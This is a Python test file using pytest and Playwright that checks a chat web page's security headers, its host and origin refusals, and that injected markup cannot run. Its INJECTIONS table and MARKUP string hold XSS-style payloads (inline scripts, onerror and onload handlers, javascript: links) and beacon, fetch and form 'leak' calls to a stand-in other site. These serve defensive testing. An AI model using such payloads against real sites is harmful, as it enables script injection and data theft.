"""What the page may do, asked of a real Chromium, and that no answer of any kind is taken for another type."""

import base64
import hashlib
import json
import re
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect
from starlette.types import Receive, Scope, Send

from wires import page
from wires.page import WEB, file
from wires.problem import Problems

from .access import CRON, KEYS, bearer, placed, serving
from .asgi import Exchange, ask, run, run_ahead
from .conftest import Service
from .sockets import HandSocket

pytest_plugins = ["tests.browser"]

STATIC = {
    "index.html": "text/html; charset=utf-8",
    "docs.html": "text/html; charset=utf-8",
    "graph.js": "text/javascript; charset=utf-8",
    "sidestream.js": "text/javascript; charset=utf-8",
    "sidestream.d.ts": "text/plain; charset=utf-8",
}


def rules(policy: str) -> dict[str, list[str]]:
    return {name: sources for name, *sources in (rule.split() for rule in policy.split(";"))}


def hashed(content: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()}'"


def test_the_page_may_do_what_we_put_into_it_and_nothing_else() -> None:
    text = (WEB / "index.html").read_text(encoding="utf-8")
    (script,) = re.findall(r"<script type=\"module\">(.*?)</script>", text, re.DOTALL)
    (style,) = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
    assert rules(file("index.html").headers["content-security-policy"]) == {
        "default-src": ["'none'"],
        "script-src": ["'self'", hashed(script)],
        "style-src": [hashed(style)],
        "connect-src": ["'self'"],
        "img-src": ["data:"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
        "frame-ancestors": ["'none'"],
    }


def test_the_page_says_the_same_in_older_words() -> None:
    headers = file("index.html").headers
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cross-origin-opener-policy"] == "same-origin"


def test_no_part_of_the_page_needs_what_its_policy_forbids() -> None:
    text = (WEB / "index.html").read_text(encoding="utf-8")
    assert re.findall(r"<[a-z][^>]*\s(?:style|on[a-z]+)=|javascript:|\beval\(|new Function\(", text) == []


@pytest.mark.parametrize("name", STATIC)
def test_a_file_has_its_type(name: str) -> None:
    assert file(name).headers["content-type"] == STATIC[name]


PAGES = {
    "a script": ("<script>one()</script>", ["one()"], []),
    "a style": ("<style>a{}</style>", [], ["a{}"]),
    "some of each": ("<style>a</style><script>b</script><style>c</style><script>d</script>", ["b", "d"], ["a", "c"]),
    "a script over lines": ("<script\n type='module'>\n one()\n</script>", ["\n one()\n"], []),
    "a script of a file before one": ('<script src="/a.js"></script><script>one()</script>', ["one()"], []),
    "a word that begins so": ("<styled>a</styled><style>b</style>", [], ["b"]),
    "other letters": ("<script>\u00e9\u2028</script>", ["\u00e9\u2028"], []),
    "nothing": ("<p>", [], []),
}


@pytest.mark.parametrize(("text", "scripts", "styles"), PAGES.values(), ids=PAGES)
def test_what_stands_in_a_page_is_allowed_by_its_hash(
    text: str, scripts: list[str], styles: list[str], tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(page, "WEB", tmp_path)
    (tmp_path / "a.html").write_bytes(text.encode())
    told = rules(file("a.html").headers["content-security-policy"])
    assert told["script-src"] == ["'self'", *map(hashed, scripts)]
    assert told["style-src"] == [*map(hashed, styles)]


# Types

KEYED = {"SIDESTREAM_API_KEYS": KEYS, "SIDESTREAM_ALLOWED_ORIGINS": "https://app.example"}
JSON = {"content-type": "application/json"}
PREFLIGHT = {"origin": "https://app.example", "access-control-request-method": "POST"}
KINDS: dict[str, tuple[int, str, str, dict[str, str]]] = {
    **{name: (200, "GET", f"/{name.replace('index.html', '').replace('docs.html', 'docs')}", {}) for name in STATIC},
    "health": (200, "GET", "/healthz", {}),
    "readiness": (200, "GET", "/readyz", {}),
    "readiness in detail": (200, "GET", "/readyz?verbose", bearer(CRON)),
    "metrics": (200, "GET", "/metrics", bearer(CRON)),
    "JSON": (200, "GET", "/v1/models", bearer(CRON)),
    "a run": (201, "POST", "/runs", {**bearer(CRON), **JSON}),
    "SSE": (200, "GET", "/chat/stream?message=Hi", bearer(CRON)),
    "NDJSON": (200, "GET", "/stream?message=Hi", bearer(CRON)),
    "a stream's head": (200, "HEAD", "/chat/stream?message=Hi", bearer(CRON)),
    "a preflight": (200, "OPTIONS", "/chat/stream", PREFLIGHT),
    "a preflight that is refused": (400, "OPTIONS", "/chat/stream", {**PREFLIGHT, "origin": "https://evil.example"}),
    "a bad request": (400, "GET", "/chat/stream", bearer(CRON)),
    "no key": (401, "GET", "/v1/models", {}),
    "another site": (403, "GET", "/chat/stream?message=Hi", {**bearer(CRON), "origin": "https://evil.example"}),
    "nothing there": (404, "GET", "/nowhere", {}),
    "another method": (405, "DELETE", "/chat/stream", bearer(CRON)),
    "another type": (415, "POST", "/runs", {**bearer(CRON), "content-type": "text/plain"}),
}
NOSNIFF = [(b"x-content-type-options", b"nosniff")]


def said(exchange: Exchange | HandSocket) -> list[tuple[bytes, bytes]]:
    return [pair for pair in exchange.sent[0]["headers"] if pair[0] == b"x-content-type-options"]


@pytest.mark.parametrize(("status", "method", "target", "headers"), KINDS.values(), ids=KINDS)
def test_no_answer_is_taken_for_another_type(status: int, method: str, target: str, headers: dict[str, str]) -> None:
    async def test() -> Exchange:
        async with serving(**KEYED) as app:
            return await ask(app, method, target, headers=headers, body=b'{"message":"Hi"}')

    exchange = run_ahead(test())
    assert exchange.status == status
    assert said(exchange) == NOSNIFF


def test_neither_is_one_of_the_rest_of_a_run_or_that_there_is_none() -> None:
    async def test() -> list[tuple[int, Any]]:
        async with serving() as app:
            created = await ask(app, "POST", "/runs", headers=JSON, body=b'{"message":"Hi"}')
            run_id = json.loads(created.body)["id"]
            events = await ask(app, "GET", f"/runs/{run_id}/events")
            status = await ask(app, "GET", f"/runs/{run_id}")
            last = json.loads(status.body)["last_event_id"]
            rest = await ask(app, "GET", f"/runs/{run_id}/events?last_event_id={last}")
            stopped = await ask(app, "DELETE", f"/runs/{run_id}")
            return [(one.status, said(one)) for one in (events, status, rest, stopped)]

    assert run_ahead(test()) == [(status, NOSNIFF) for status in (200, 200, 204, 204)]


def test_neither_is_another_host() -> None:
    async def test() -> Exchange:
        async with serving() as app:
            return await ask(placed(app, server=("127.0.0.1", 80)), "GET", "/", headers={"host": "evil.example"})

    exchange = run_ahead(test())
    assert (exchange.status, said(exchange)) == (403, NOSNIFF)


def test_neither_is_a_failure_of_ours() -> None:
    async def broken(scope: Scope, receive: Receive, send: Send) -> None:
        raise LookupError("not to be told")

    exchange = run(ask(Problems(broken, lambda scope: None), "GET", "/"))
    assert (exchange.status, said(exchange)) == (500, NOSNIFF)


DENIALS: dict[str, tuple[dict[str, str], dict[str, Any]]] = {
    "no key": ({}, {}),
    "another site": ({**bearer(CRON), "origin": "https://evil.example"}, {}),
    "another host": ({**bearer(CRON), "host": "evil.example"}, {"SIDESTREAM_ALLOWED_HOSTS": "app.example"}),
}


@pytest.mark.parametrize(("headers", "environ"), DENIALS.values(), ids=DENIALS)
def test_neither_is_the_denial_of_a_handshake(headers: dict[str, str], environ: dict[str, str]) -> None:
    async def test() -> HandSocket:
        async with serving(**{**KEYED, **environ}) as app, HandSocket(app, headers=headers) as socket:
            return socket

    socket = run_ahead(test())
    assert socket.refused_with is not None
    assert said(socket) == NOSNIFF


# In a browser; last, since while it is open no other event loop can run here


@pytest.fixture
def complaints(tab: Page) -> list[str]:
    """What the page's console says is an error."""
    told: list[str] = []
    tab.on("console", lambda message: told.append(message.text) if message.type == "error" else None)
    return told


def ask_page(tab: Page, service: Service, question: str) -> Locator:
    """Ask the model that repeats what it is asked, and return its answer."""
    tab.goto(f"http://127.0.0.1:{service.port}/")
    expect(tab.get_by_test_id("model")).to_be_enabled()
    tab.get_by_test_id("model").select_option("scripted/echo")
    tab.get_by_test_id("message").fill(question)
    tab.keyboard.press("Enter")
    expect(tab.locator("body")).to_have_attribute("data-state", "idle", timeout=20_000)
    return tab.get_by_test_id("answer")


def test_the_page_works_under_its_policy_and_complains_of_nothing(
    tab: Page, service: Service, complaints: list[str]
) -> None:
    answer = ask_page(tab, service, "Some **bold** `code`\n\n```js\nlet a = 1\n```")
    expect(answer.locator("strong")).to_have_text("bold")
    expect(tab.get_by_test_id("stats")).to_contain_text("tokens/s")
    tab.get_by_test_id("inspector-toggle").click()
    expect(tab.get_by_test_id("event-row").first).to_be_visible()
    assert tab.evaluate("document.styleSheets[0].cssRules.length") > 100
    assert complaints == []


# What somebody who gets markup into the page would try, and the rule that is in the way. What ends well for them sets
# `pwned`, or reaches the other site.
INJECTIONS: dict[str, tuple[str, str]] = {
    "a script": ("script-src-elem", "add('script', {textContent: 'pwned = 1'})"),
    "a module": ("script-src-elem", "add('script', {type: 'module', textContent: 'pwned = 1'})"),
    "a script of another site": ("script-src-elem", "add('script', {src: other + '/evil.js'})"),
    "a script of data": ("script-src-elem", "add('script', {src: 'data:text/javascript,pwned=1'})"),
    "a handler": ("script-src-attr", 'html(\'<img src="data:,x" onerror="pwned = 1">\')'),
    "a handler of a drawing": ("script-src-attr", "html('<svg onload=\"pwned = 1\"></svg>')"),
    "a link": ("script-src-elem", "add('a', {href: 'javascript:pwned = 1'}).click()"),
    "a text as code": ("script-src", "setTimeout('pwned = 1')"),
    "a style": ("style-src-elem", "add('style', {textContent: 'body { color: red }'})"),
    "an attribute of style": ("style-src-attr", "html('<p style=\"color: red\">')"),
    "a sheet of another site": ("style-src-elem", "add('link', {rel: 'stylesheet', href: other + '/evil.css'})"),
    "a picture of another site": ("img-src", "add('img', {src: other + '/?leak'})"),
    "a request to another site": ("connect-src", "fetch(other + '/?leak', {mode: 'no-cors'}).catch(() => 0)"),
    "a beacon to another site": ("connect-src", "navigator.sendBeacon(other + '/?leak', 'x')"),
    "a stream of another site": ("connect-src", "new EventSource(other + '/chat/stream')"),
    "a socket to another site": ("connect-src", "new WebSocket(other.replace('http', 'ws') + '/ws/chat')"),
    "a form to another site": ("form-action", "add('form', {action: other + '/leak'}).submit()"),
    "another base": ("base-uri", "add('base', {href: other + '/'})"),
    "a frame": ("frame-src", "add('iframe', {src: other + '/'})"),
    "a plug-in": ("object-src", "add('object', {data: other + '/'})"),
    "a worker": ("worker-src", "new Worker('data:text/javascript,1')"),
    "a font of another site": ("font-src", "new FontFace('f', `url(${other}/f)`).load().catch(() => 0)"),
}
TRY = """(other) => new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
    setTimeout(resolve, 5000, "no rule");
    const add = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
    const html = (text) => document.body.insertAdjacentHTML("beforeend", text);
    try { %s } catch (error) { if (!(error instanceof DOMException)) throw error }
})"""


def test_what_is_put_into_the_page_does_nothing(tab: Page, service: Service) -> None:
    """In an empty page with its policy, which takes less long to load."""
    site, other = (f"http://127.0.0.1:{port}" for port in (service.port, service.port + 1))
    opened, reached = tab.goto(f"{site}/"), list[str]()
    assert opened is not None
    policy = {"Content-Security-Policy": opened.headers["content-security-policy"], "Content-Type": "text/html"}
    tab.route(f"{site}/empty", lambda route: route.fulfill(headers=policy, body="<body>"))
    tab.route(f"{other}/**", lambda route: (reached.append(route.request.url), route.fulfill(body="pwned = 1")))
    found = {}
    for name, (_, code) in INJECTIONS.items():
        tab.goto(f"{site}/empty")
        found[name] = tab.evaluate(TRY % code, other)
        assert tab.evaluate("window.pwned") is None, name
    assert found == {name: rule for name, (rule, _) in INJECTIONS.items()}
    assert reached == []


MARKUP = (
    "<script>pwned = 1</script><img src=x onerror='pwned = 1'><b>bold</b> [a](javascript:pwned=1) <svg onload=pwned=1>"
)


def test_markup_in_an_answer_is_text(tab: Page, service: Service, complaints: list[str]) -> None:
    answer = ask_page(tab, service, MARKUP)
    expect(answer).to_contain_text("<script>pwned = 1</script><img src=x onerror='pwned = 1'><b>bold</b>")
    assert answer.locator("script, img, b, svg, a[href^=javascript]").count() == 0
    assert tab.evaluate("window.pwned") is None
    assert complaints == []


@pytest.mark.parametrize("path", ["/", "/?message=Hi"])
def test_the_page_cannot_be_framed_not_even_by_its_own_site(tab: Page, service: Service, path: str) -> None:
    site = f"http://127.0.0.1:{service.port}"
    tab.route(f"{site}/framing", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{path}'>"))
    tab.goto(f"{site}/framing")
    _, frame = tab.frames
    assert frame.url == "chrome-error://chromewebdata/"
